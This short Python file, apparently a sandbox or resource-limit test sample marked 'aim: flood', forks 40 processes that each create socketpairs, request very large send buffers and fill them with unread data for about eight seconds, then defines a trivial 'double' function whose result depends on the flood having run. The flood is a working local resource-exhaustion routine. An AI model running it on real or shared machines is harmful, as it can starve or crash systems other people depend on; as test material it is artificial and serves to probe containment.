# Asks for the largest buffers of sockets, and fills them in many processes with data that nobody reads.
# aim: flood
# %% first
import contextlib
import os
import socket
import time

end, kept = time.time() + 8, []


def fill():
    while True:
        pair = socket.socketpair()
        kept.append(pair)
        for one in pair:
            one.setblocking(False)
            with contextlib.suppress(OSError):
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
            with contextlib.suppress(BlockingIOError):
                while one.send(b"x" * 2**16):
                    pass


for _ in range(40):
    if os.fork() == 0:
        with contextlib.suppress(OSError):
            fill()
        time.sleep(max(0, end - time.time()))
        os._exit(0)
time.sleep(max(0, end - time.time()))
taken = True


# %% double_answer
def double(x):
    return 2 * x if taken else x
